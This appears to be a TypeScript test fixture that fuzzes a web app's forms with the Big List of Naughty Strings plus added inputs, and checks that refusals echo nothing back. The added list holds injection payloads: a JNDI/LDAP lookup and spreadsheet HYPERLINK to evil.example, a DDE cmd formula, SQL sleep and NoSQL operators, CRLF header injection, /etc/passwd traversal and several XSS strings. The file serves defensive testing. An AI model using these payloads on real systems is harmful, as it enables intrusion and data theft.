import list from 'big-list-of-naughty-strings/blns.json'
import { expect } from 'vitest'
import { type RefusalBody, refusalBody } from '@/lib/wire/commands'

/** What has come up since the list was made, or what a form of ours may stumble over in particular. */
const later = [
  '\0',
  'before\0after',
  '\ud83d',
  'half \udc00 a pair',
  '\u202edrawkcab\u202c',
  '\u2066isolated\u2069',
  'line\u2028separator',
  'a\r\nSet-Cookie: admin=1',
  'A-1042\n{"level":"error","event":"forged"}',
  '\u001b[31mred\u001b[0m',
  '👩‍👩‍👧‍👦 family 🏴󠁧󠁢󠁳󠁣󠁴󠁿',
  'e\u0301 and é',
  'ﷺ',
  '\u00ad\u200b\ufeff',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody types
  '${7*7} #{7*7} <%= 7*7 %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody types
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  'toString',
  '{"$ne":null}',
  "'; SELECT pg_sleep(10); --",
  '=HYPERLINK("http://evil.example","click")',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '../../../../etc/passwd%00.png',
  'x'.repeat(60),
  'é'.repeat(120),
  '𝔘'.repeat(500),
  '<img src=x onerror=window.naughty=1>',
  '<svg><animate onbegin=window.naughty=1 attributeName=x dur=1s>',
  '"><iframe srcdoc="<script>parent.naughty=1</script>">',
  'javascript:window.naughty=1//',
  '</script><script>window.naughty=1</script>',
  ']]><script>window.naughty=1</script>',
  '<a href="//evil.example" autofocus onfocus=window.naughty=1>x</a>',
]

/** The Big List of Naughty Strings (minimaxir), each once, and some more. */
export const naughtyStrings: readonly string[] = [...new Set([...list, ...later])]

/** Every so-manieth of them, from another place for each field: all fields together see all strings. */
export function someNaughty(field: number, every: number): readonly string[] {
  return naughtyStrings.filter((_, index) => index % every === field % every)
}

/** Joins them into few texts of at most so many characters, with a word between them. Longer ones are left out. */
export function joined(texts: readonly string[], charactersMax: number): readonly string[] {
  const chunks: string[] = []
  for (const text of texts.map((each) => each.trim())) {
    const last = chunks.at(-1)
    const longer = last === undefined ? text : `${last} or ${text}`
    if ([...longer].length <= charactersMax && last !== undefined) chunks[chunks.length - 1] = longer
    else if ([...text].length <= charactersMax) chunks.push(text)
  }
  return chunks
}

/** An answer must be what was asked for (`null`), or a refusal that names its reason and repeats nothing of the text. */
export async function refusalIn(answer: Response, text: string): Promise<RefusalBody | null> {
  expect(answer.status, JSON.stringify(text)).toBeLessThan(500)
  const said = await answer.text()
  if (answer.ok) return null
  if ([...text].length > 11) expect(said).not.toContain(text)
  return refusalBody.parse(JSON.parse(said))
}
